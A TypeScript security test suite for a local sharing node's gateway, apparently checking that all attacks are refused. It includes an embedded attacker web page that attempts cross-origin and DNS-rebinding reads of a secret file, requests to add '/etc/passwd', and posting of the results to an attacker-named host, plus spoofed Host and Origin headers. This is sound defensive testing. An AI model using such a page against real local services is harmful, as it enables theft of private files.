/**
 * Web pages against what listens on this machine: a real browser opens a page of another site, which tries everything that a page
 * may try to read from the gateway, to make it do something, or to reach the node's own port. Nothing comes of it.
 */
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { createServer, request } from 'node:http'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { Homes, until } from '../e2e/homes.ts'
import { installed } from './installed.ts'

/** Names that a browser takes for other sites, and that lead here: the attacker's, and one rebound to this machine. */
const ATTACKER = 'attacker.test'
const REBOUND = 'rebound.test'

/** What nobody else may learn. */
const SECRET = 'the content of a share that no page may read'

interface Attempts {
  /** What the page could read, or why not, by the name of the attempt. */
  readonly [attempt: string]: string
}

test('a page of another site reads nothing from the gateway, and changes nothing', async (t) => {
  const homes = await Homes.open(t)
  const node = await homes.add('node', { gateway: '/ip4/127.0.0.1/tcp/0' })
  await mkdir(homes.path('tree'))
  await writeFile(homes.path('tree', 'secret.txt'), SECRET)
  await writeFile(homes.path('tree', 'script.js'), 'window.leaked = true')
  const cid = await node.share('add', '-q', homes.path('tree'))
  const { gateway } = await node.daemon()
  assert.ok(gateway !== null)
  const { port } = new URL(gateway)
  const before = await node.shares()
  const tcp = /\/tcp\/(\d+)/.exec(await node.address())?.[1] ?? ''

  const page = attackPage({ gateway, rebound: `http://${REBOUND}:${port}`, cid, tcp })
  const attempts = await visit(t, homes.path('profile'), page)
  t.diagnostic(JSON.stringify(attempts))
  assert.deepEqual(Object.keys(attempts).sort(), [...ATTEMPTS].sort())
  for (const [attempt, outcome] of Object.entries(attempts))
    assert.match(outcome, /^(refused|opaque|blocked)/, `${attempt}: ${outcome}`)
  assert.ok(!JSON.stringify(attempts).includes(SECRET))
  assert.deepEqual(
    (await node.shares()).map(({ cid: each, state }) => [each, state]),
    before.map(({ cid: each, state }) => [each, state]),
  )
  assert.equal((await node.daemon()).running, true)
})

test('whatever a request says of itself, only this machine by its own name is answered', async (t) => {
  const homes = await Homes.open(t)
  const node = await homes.add('node', { gateway: '/ip4/127.0.0.1/tcp/0' })
  await writeFile(homes.path('file'), SECRET)
  const cid = await node.share('add', '-q', homes.path('file'))
  const { gateway } = await node.daemon()
  const url = new URL(`/ipfs/${cid}`, gateway ?? '')
  const host = url.host
  assert.deepEqual(await ask(url, { host }), [200, true])
  const refused: Record<string, string>[] = [
    { host: `${REBOUND}:${url.port}` },
    { host: 'example.org' },
    { host: '' },
    { host: `localhost.example.org:${url.port}` },
    { host: `127.0.0.1.example.org:${url.port}` },
    { host, origin: 'http://example.org' },
    { host, origin: 'null' },
    { host, origin: `http://${host}.example.org` },
    { host, 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
  ]
  for (const headers of refused) {
    const [status, told] = await ask(url, headers)
    assert.ok(status >= 400 && status < 500 && !told, `${JSON.stringify(headers)}: ${status}`)
  }
  for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE']) {
    const [status, told] = await ask(url, { host }, method)
    assert.ok(status >= 400 && !told, `${method}: ${status}`)
  }
})

test('keys, sockets and logs are for their owner alone, and no secret is told', async (t) => {
  const homes = await Homes.open(t)
  const node = await homes.add('node', { gateway: '/ip4/127.0.0.1/tcp/0' })
  await writeFile(homes.path('file'), SECRET)
  await node.share('add', homes.path('file'))
  const told = [
    await node.share('id', '--json'),
    await node.share('config', 'list', '--json'),
    await node.share('status', '--json'),
  ]
  told.push((await node.run('get', 'nonsense')).stderr, await readFile(join(node.path, 'daemon.log'), 'utf8'))
  for (const name of ['key', 'api.sock', 'daemon.log', 'daemon.pid']) {
    const found = await stat(join(node.path, name)).catch(() => undefined)
    if (found !== undefined)
      assert.equal(found.mode & 0o077, 0, `${name}: ${(found.mode & 0o777).toString(8)}`)
    else assert.equal(name, 'api.sock', `${name} is not there: ${await readdir(node.path)}`)
  }
  assert.equal((await stat(node.path)).mode & 0o077, 0)
  const key = await readFile(join(node.path, 'key'))
  const forms = [
    key.toString('base64'),
    key.toString('base64url'),
    key.toString('hex'),
    key.toString('utf8').trim(),
  ]
  for (const text of told)
    for (const form of forms) assert.ok(!text.includes(form.slice(-40)), 'the private key is told')
})

/** What the page tries. */
const ATTEMPTS = [
  'fetch',
  'fetch without cors',
  'fetch by the rebound name',
  'simple post',
  'post of json',
  'script',
  'image',
  'frame',
  'frame by the rebound name',
  'websocket',
  'null origin',
  'node port',
] as const

function attackPage(at: { gateway: string; rebound: string; cid: string; tcp: string }): string {
  return `<!doctype html><script>
const { gateway, rebound, cid, tcp } = ${JSON.stringify(at)}
const file = gateway + '/ipfs/' + cid + '/secret.txt'
const told = {}
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const read = async (url, options) => {
  try {
    const answer = await fetch(url, options)
    return answer.type === 'opaque' ? 'opaque' : 'read ' + answer.status + ' ' + (await answer.text())
  } catch (error) { return 'blocked ' + error }
}
const element = (name, url) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), { src: url })
  made.onload = () => resolve(window.leaked ? 'ran' : 'loaded')
  made.onerror = () => resolve('refused')
  document.body.append(made)
  setTimeout(() => resolve('refused'), 3000)
})
const frame = (url) => new Promise((resolve) => {
  const made = document.createElement('iframe')
  made.onload = () => {
    try { resolve('read ' + made.contentDocument.body.textContent) } catch { resolve('blocked by origin') }
    if (made.contentDocument === null) resolve('blocked by origin')
  }
  made.src = url
  document.body.append(made)
  setTimeout(() => resolve('refused'), 3000)
})
const socket = () => new Promise((resolve) => {
  const opened = new WebSocket(gateway.replace('http', 'ws') + '/')
  opened.onopen = () => resolve('opened')
  opened.onerror = () => resolve('refused')
})
const sandboxed = () => new Promise((resolve) => {
  const made = document.createElement('iframe')
  made.sandbox = 'allow-scripts'
  made.srcdoc = '<script>fetch(' + JSON.stringify(file) + ').then((a) => a.text()).then((t) => parent.postMessage("read " + t, "*"), (e) => parent.postMessage("blocked " + e, "*"))</' + 'script>'
  addEventListener('message', ({ data }) => resolve(String(data)))
  document.body.append(made)
  setTimeout(() => resolve('refused'), 3000)
})
onload = async () => {
  told['fetch'] = await read(file)
  told['fetch without cors'] = await read(file, { mode: 'no-cors' })
  told['fetch by the rebound name'] = await read(rebound + '/ipfs/' + cid + '/secret.txt')
  told['simple post'] = await read(gateway + '/ipfs/' + cid, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' })
  told['post of json'] = await read(gateway + '/v1/add', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"path":"/etc/passwd"}' })
  told['script'] = await element('script', gateway + '/ipfs/' + cid + '/script.js')
  told['image'] = await element('img', file)
  told['frame'] = await frame(file)
  told['frame by the rebound name'] = await frame(rebound + '/ipfs/' + cid + '/secret.txt')
  told['websocket'] = await socket()
  told['null origin'] = await sandboxed()
  told['node port'] = await Promise.race([read('http://127.0.0.1:' + tcp + '/', { method: 'POST', mode: 'no-cors', body: 'x'.repeat(1000) }), wait(5000).then(() => 'refused')])
  await fetch('/told', { method: 'POST', body: JSON.stringify(told) })
}
</script><body></body>`
}

/** Opens the page in a browser, under the attacker's name, and waits for what it tells. */
async function visit(t: TestContext, profile: string, page: string): Promise<Attempts> {
  const told = Promise.withResolvers<Attempts>()
  const server = createServer(async (asked, reply) => {
    if (asked.url === '/told')
      told.resolve(JSON.parse(Buffer.concat(await asked.toArray()).toString()) as Attempts)
    reply.setHeader('content-type', 'text/html').end(asked.url === '/' ? page : '')
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close())
  const address = server.address()
  assert.ok(typeof address === 'object' && address !== null)
  const rules = [ATTACKER, REBOUND].map((name) => `MAP ${name} 127.0.0.1`).join(',')
  const flags = [
    '--headless=new',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-dev-shm-usage',
    '--no-first-run',
    '--disable-background-networking',
  ]
  const chromium = spawn(
    await installed('chromium'),
    [
      ...flags,
      `--user-data-dir=${profile}`,
      `--host-resolver-rules=${rules}`,
      `http://${ATTACKER}:${address.port}/`,
    ],
    // a group of its own: its processes end together
    { detached: true, stdio: 'ignore' },
  )
  t.after(async () => {
    if (chromium.pid !== undefined && chromium.exitCode === null) process.kill(-chromium.pid, 'SIGKILL')
    await until('the browser is gone', () => chromium.exitCode !== null || chromium.signalCode !== null)
  })
  return told.promise
}

/** The status, and whether the content came. */
function ask(url: URL, headers: Record<string, string>, method = 'GET'): Promise<[number, boolean]> {
  return new Promise((resolve, reject) => {
    const asked = request(url, { method, headers, setHost: false }, async (answer) => {
      const body = Buffer.concat(await answer.toArray()).toString()
      resolve([answer.statusCode ?? 0, body.includes(SECRET)])
    })
    asked.on('error', reject).end()
  })
}
